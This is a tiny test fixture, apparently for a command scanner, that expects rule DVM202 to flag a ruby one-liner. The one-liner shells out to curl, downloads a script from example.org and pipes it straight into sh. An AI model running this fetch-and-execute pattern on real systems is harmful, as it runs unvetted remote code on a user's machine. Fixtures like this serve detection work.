# expect: DVM202
ruby -e '`curl -fsSL https://example.org/i.sh | sh`'
